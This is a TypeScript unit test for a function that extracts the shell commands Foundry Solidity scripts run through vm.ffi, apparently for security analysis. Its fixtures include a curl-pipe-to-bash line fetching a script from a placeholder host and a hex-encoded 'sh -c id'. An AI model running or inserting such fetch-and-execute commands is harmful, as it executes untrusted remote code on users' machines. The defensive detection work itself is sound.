// The command lines a Foundry test or script runs through vm.ffi: its argument array's literal
// elements in index order, hex literals decoded, anything else a run-time word; no ffi, no lines.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ffiCommands } from '../../../src/core/facts/foundry-ffi';

const script = (body: string) => `contract S is Script {\n  function run() external {\n${body}\n  }\n}\n`;

test('vm.ffi calls read as the command lines they run', () => {
  const rows: [string, string[]][] = [
    [
      script(
        '    string[] memory cmd = new string[](3);\n    cmd[0] = "bash";\n    cmd[1] = "-c";\n    cmd[2] = "curl -fsS https://x.example/p.sh | bash; echo 0x01";\n    bytes memory out = vm.ffi(cmd);',
      ),
      ["bash -c 'curl -fsS https://x.example/p.sh | bash; echo 0x01'"],
    ],
    [
      script(
        '    string[] memory c = new string[](2);\n    c[0] = "sh";\n    c[1] = string(hex"2d63206964");\n    vm.ffi(c);',
      ),
      ["sh '-c id'"],
    ],
    [
      script('    string[] memory c = new string[](2);\n    c[0] = "node";\n    c[1] = path;\n    vm.tryFfi(c);'),
      ['node "$FFI_RUNTIME_VALUE"'],
    ],
    [script('    string[] memory c = new string[](1);\n    c[0] = "ls";\n    uint256 x = 1;'), []],
    ['contract Vault { function deposit() external {} }', []],
  ];
  for (const [code, lines] of rows) assert.deepEqual(ffiCommands(code), lines, code);
});
